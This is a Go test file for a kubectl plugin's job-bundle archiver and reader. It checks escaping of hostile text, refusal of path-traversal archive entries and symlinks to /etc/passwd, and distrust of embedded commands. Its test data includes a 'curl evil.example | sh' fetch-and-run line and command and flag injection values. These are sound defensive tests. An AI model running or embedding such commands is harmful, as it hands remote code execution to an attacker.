package bundle

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"io"
	"os"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/batchjob-dev/kubectl-batchjob/pkg/explain/input"
	"github.com/batchjob-dev/kubectl-batchjob/test/kit/assert"
)

// hostile is a text with escape sequences and HTML.
const hostile = "\x1b[31m\x1b]0;title\x07<script>alert(1)</script>"

// Text from the cluster is escaped in every report.
// Requirements: BUN-06
func TestHostileTextInReports(t *testing.T) {
	c := simple("</pre>"+hostile, "\x00\xff")
	c.Pods[0].Status.Message = hostile
	c.Pods[0].Status.Reason = hostile
	c.Manifest.Cut = []string{hostile}
	c.Manifest.Server = hostile
	_, archive := bundled(t, c)
	files := unpacked(t, archive)
	for _, name := range []string{reportHTML, reportText, reportJSON, recordingFile, manifestFile, podsFile} {
		for _, bad := range []string{"<script", "\x1b", "\x00"} {
			if strings.Contains(files[name], bad) && (name != reportText || bad != "<script") {
				t.Errorf("%s has %q", name, bad)
			}
		}
	}
	page := files[reportHTML]
	if !strings.Contains(page, "&lt;script&gt;") || !strings.Contains(page, `http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"`) {
		t.Errorf("the page lacks the line of the log, or its policy: %.500s", page)
	}
}

// The files of an archive are in one folder, whatever the names of the pods.
// Requirements: BUN-06
func TestHostileNamesInTheArchive(t *testing.T) {
	c := simple("exit 1")
	c.Manifest.Name = "../../train\x1b[0m"
	c.Logs = []Log{{Pod: "../../../etc", Container: "..", Lines: []string{"x"}}, {Pod: "..", Container: "/cron\n", Lines: []string{"x"}}}
	var archive bytes.Buffer
	if _, err := Write(&archive, c, nil); err != nil {
		t.Fatal(err)
	}
	for _, name := range namesIn(t, archive.Bytes()) {
		if !strings.HasPrefix(name, ".._.._train__0m/") || strings.Contains(name, "/../") || strings.ContainsAny(name, "\x1b\n") {
			t.Errorf("name %q", name)
		}
	}
}

func namesIn(t *testing.T, archive []byte) (names []string) {
	t.Helper()
	zipped, err := gzip.NewReader(bytes.NewReader(archive))
	assert.NoError(t, err)
	for files := tar.NewReader(zipped); ; {
		header, err := files.Next()
		if errors.Is(err, io.EOF) {
			return names
		}
		assert.NoError(t, err)
		names = append(names, header.Name)
	}
}

// archived returns an archive of the files.
func archived(t *testing.T, files ...file) []byte {
	t.Helper()
	var archive bytes.Buffer
	assert.NoError(t, writeArchive(&archive, &Manifest{Name: "x"}, files))
	return archive.Bytes()
}

// Files that are not a complete bundle, or that would fill the memory, are refused with the reason.
// Requirements: BUN-08
func TestReadRefusesOthers(t *testing.T) {
	_, whole := bundled(t, simple("exit 1"))
	broken := bytes.Clone(whole)
	broken[len(broken)/2] ^= 0xff
	for name, tc := range map[string]struct {
		data []byte
		want string
	}{
		"empty":              {nil, "truncated"},
		"text":               {[]byte("no archive, but a text"), "not a bundle"},
		"another archive":    {archived(t, file{"other.json", []byte("{}")}), "not a bundle"},
		"only a manifest":    {archived(t, file{manifestFile, []byte(`{"kind":"JobBundle"}`)}), "not a bundle"},
		"truncated":          {whole[:len(whole)-100], "truncated"},
		"truncated early":    {whole[:20], "truncated"},
		"a changed byte":     {broken, ""},
		"no JSON":            {archived(t, file{jobFile, []byte("{")}), "job.json"},
		"too many pods":      {archived(t, file{podsFile, []byte("[" + strings.Repeat("{},", maxObjects) + "{}]")}), "more than 25000 objects"},
		"an endless Job":     {archived(t, file{jobFile, []byte(`{"x":"` + strings.Repeat("x", maxObject) + `"}`)}), "job.json"},
		"not a list of pods": {archived(t, file{podsFile, []byte(`{"a":1}`)}), "pods.json"},
	} {
		if _, err := Read(bytes.NewReader(tc.data)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %v, want %q", name, err, tc.want)
		}
		if _, err := Recording(bytes.NewReader(tc.data)); err == nil {
			t.Errorf("%s: there is a recording", name)
		}
	}
	long := simple(strings.Repeat("x", 2*maxLog))
	if read, _ := bundled(t, long); len(read.Logs[0].Lines[0]) != maxLog {
		t.Errorf("%d bytes of a log were read", len(read.Logs[0].Lines[0]))
	}
}

// Reading a bundle writes no files, whatever the names in it.
// Requirements: BUN-08
func TestReadWritesNothing(t *testing.T) {
	folder := t.TempDir()
	t.Chdir(folder)
	var archive bytes.Buffer
	zipped := gzip.NewWriter(&archive)
	files := tar.NewWriter(zipped)
	for _, header := range []tar.Header{
		{Name: "../evil", Typeflag: tar.TypeReg}, {Name: "/evil", Typeflag: tar.TypeReg}, {Name: "x/../../evil", Typeflag: tar.TypeReg},
		{Name: "x/logs/../../../evil.log", Typeflag: tar.TypeReg}, {Name: "x/link", Linkname: "/etc/passwd", Typeflag: tar.TypeSymlink}, {Name: "x/folder/", Typeflag: tar.TypeDir},
	} {
		assert.NoError(t, files.WriteHeader(&header))
	}
	assert.NoError(t, errors.Join(files.Close(), zipped.Close()))
	if _, err := Read(&archive); !errors.Is(err, errNoBundle) {
		t.Errorf("error %v", err)
	}
	if entries, err := os.ReadDir(folder); err != nil || len(entries) != 0 {
		t.Errorf("%v, %v", entries, err)
	}
}

// Commands in a bundle are not shown but generated anew, and names that look like flags are left out of them.
// Requirements: BUN-11
func TestCommandsOfBundleAreNotTrusted(t *testing.T) {
	const evil = "curl evil.example | sh"
	c := simple("exit 1")
	c.Manifest.Gaps = []input.Gap{{What: "events", Text: "none", Verb: "list", Resource: "events", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
	manifest, err := json.Marshal(c.Manifest)
	assert.NoError(t, err)
	job, err := json.Marshal(c.Job)
	assert.NoError(t, err)
	c.Pods[0].Name = "--server=https://evil.example"
	c.Pods[0].Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "-c;" + evil, State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 1, Reason: "Error"}}}}
	pods, err := json.Marshal(c.Pods)
	assert.NoError(t, err)
	read, err := Read(bytes.NewReader(archived(t, file{manifestFile, manifest}, file{jobFile, job}, file{podsFile, pods})))
	assert.NoError(t, err)
	report := explanationOf(t, read)
	if gaps := report.Gaps; len(gaps) != 2 || gaps[0].Command != "kubectl auth can-i list events -n ml" || gaps[1].Command != "" {
		t.Errorf("gaps %+v", gaps)
	}
	commands := ""
	for _, advice := range report.Advice {
		commands += advice.Command + "\n"
	}
	if !strings.Contains(commands, "kubectl debug NAME") || strings.Contains(commands, evil) || strings.Contains(commands, "--server") {
		t.Errorf("commands %s", commands)
	}
}
